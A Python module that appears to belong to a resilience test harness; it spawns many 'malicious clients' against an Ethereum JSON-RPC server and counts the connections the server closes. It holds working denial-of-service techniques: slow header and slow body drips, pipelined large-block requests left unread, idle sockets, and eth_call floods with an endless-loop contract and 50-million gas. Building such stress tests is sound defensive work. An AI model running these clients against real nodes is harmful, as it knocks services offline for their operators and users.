"""Malicious clients, in a separate process.

    python -m abuse.attackers NAME URL COUNT SCALE

prints `ready` when all its connections are active, continues until its standard input ends, and
then prints the number of connections closed by the server. Closed clients reconnect. SCALE makes
simulations smaller.
"""

import asyncio
import resource
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager, contextmanager, suppress

import click

from abuse.beside import beside
from abuse.frames import ATTACKS as BY_WEBSOCKET
from abuse.hogs import KINDS, hog
from abuse.holding import long_simulation
from abuse.simulations import EXCESSES
from abuse.wire import Address, address_of, batch, head, post, request

DRIP_SECONDS = 0.5
LOOP_GAS = "0x2faf080"  # 50 million
LOOP_ADDRESS = "0x" + "fe" * 20
LOOP_CODE = "0x5b600056"  # JUMPDEST PUSH1 0 JUMP
RETURNED_CODE = "0x620dbba05ff3"  # PUSH3 900000 PUSH0 RETURN
LARGE_BLOCK = ("0x1", True)
PIPELINED = 64

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Attack = Callable[[Streams], Awaitable[None]]


async def slow_header(streams: Streams) -> None:
    """A header sent byte by byte."""
    _, writer = streams
    writer.write(b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
    await _drip(streams)


async def slow_body(streams: Streams) -> None:
    """An announced body, sent byte by byte."""
    _, writer = streams
    writer.write(head(1_000_000))
    await _drip(streams)


async def never_reads(streams: Streams) -> None:
    """Many requests for a large block, with unread responses."""
    reader, writer = streams
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    batch = post(request("eth_getBlockByNumber", *LARGE_BLOCK)) * PIPELINED
    while not writer.is_closing():
        writer.write(batch)
        await writer.drain()
    del reader


async def unread_blocks(streams: Streams) -> None:
    """A batch of a hundred requests for one large block, with an unread response.

    If the block was never requested before, each batch begins to render it separately.
    """
    await _ask_and_wait(streams, batch(request("eth_getBlockByNumber", *LARGE_BLOCK), 100))


async def unread_calls(streams: Streams) -> None:
    """A batch of calls that return memory, each with a different text, with an unread response."""
    call = {"to": LOOP_ADDRESS, "gas": LOOP_GAS}
    body = request("eth_call", call, "latest", {LOOP_ADDRESS: {"code": RETURNED_CODE}})
    await _ask_and_wait(streams, batch(body, 20))


async def _ask_and_wait(streams: Streams, body: bytes) -> None:
    """Send a request, and do not read; wait until the server closes the connection."""
    _, writer = streams
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    writer.write(post(body))
    while not writer.is_closing():
        await asyncio.sleep(DRIP_SECONDS)
        writer.write(b" ")  # to notice its end


async def idle(streams: Streams) -> None:
    """An idle connection."""
    reader, _ = streams
    await reader.read(1)


async def endless_loop(streams: Streams) -> None:
    """Calls of a contract that jumps to its beginning until it runs out of gas."""
    call = {"to": LOOP_ADDRESS, "gas": LOOP_GAS}
    body = request("eth_call", call, "latest", {LOOP_ADDRESS: {"code": LOOP_CODE}})
    await _again_and_again(streams, body)


async def _again_and_again(streams: Streams, body: bytes) -> None:
    """Send a request, read the response, and repeat."""
    reader, writer = streams
    while True:
        writer.write(post(body))
        heading = await reader.readuntil(b"\r\n\r\n")
        length = int(heading.lower().split(b"content-length:")[1].split(b"\r\n")[0])
        await reader.readexactly(length)


async def _drip(streams: Streams) -> None:
    reader, writer = streams
    ended = asyncio.ensure_future(reader.read())
    try:
        while not ended.done():
            writer.write(b"x")
            await writer.drain()
            await asyncio.wait([ended], timeout=DRIP_SECONDS)
    finally:
        ended.cancel()


BY_HTTP: dict[str, Attack] = {
    each.__name__: each
    for each in (
        slow_header,
        slow_body,
        never_reads,
        idle,
        endless_loop,
        unread_blocks,
        unread_calls,
    )
}
ATTACKS: dict[str, Attack] = {**BY_HTTP, **BY_WEBSOCKET}


def find_attack(name: str, scale: float) -> Attack:
    """The attack of this name; simulations of the given scale."""
    if name in ATTACKS:
        return ATTACKS[name]
    if name == "holding":
        body = long_simulation(max(1, round(200 * scale)))
    else:
        body = hog(name) if name in KINDS else EXCESSES[name](scale).body
    return lambda streams: _again_and_again(streams, body)


async def attack(name: str, address: Address, count: int, scale: float) -> int:
    """Attack until standard input ends; return the number of closed connections."""
    one = find_attack(name, scale)
    closed = 0
    connected = asyncio.Semaphore(0)

    async def attacker() -> None:
        nonlocal closed
        first = True
        while True:
            async with _connected(address) as streams:
                if first:
                    connected.release()
                    first = False
                with suppress(OSError, asyncio.IncompleteReadError):
                    await one(streams)
            closed += 1

    attackers = [asyncio.create_task(attacker()) for _ in range(count)]
    for _ in range(count):
        await connected.acquire()
    click.echo("ready")
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for task in attackers:
        task.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)
    return closed


@asynccontextmanager
async def _connected(address: Address) -> AsyncIterator[Streams]:
    while True:
        with suppress(OSError):
            streams = await asyncio.open_connection(*address)
            break
        await asyncio.sleep(DRIP_SECONDS)
    try:
        yield streams
    finally:
        streams[1].transport.abort()


class Attackers:
    """Running attackers; `closed` is known once they have stopped."""

    closed: int | None = None


@contextmanager
def attacking(name: str, url: str, count: int, scale: float = 1.0) -> Iterator[Attackers]:
    """Attackers in a separate process, active while the block runs."""
    attackers = Attackers()
    with beside("abuse.attackers", name, url, count, scale) as process:
        try:
            yield attackers
        finally:
            attackers.closed = int(process.communicate()[0])


def main() -> None:
    name, url, count, scale = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    click.echo(asyncio.run(attack(name, address_of(url), int(count), float(scale))))


if __name__ == "__main__":
    main()
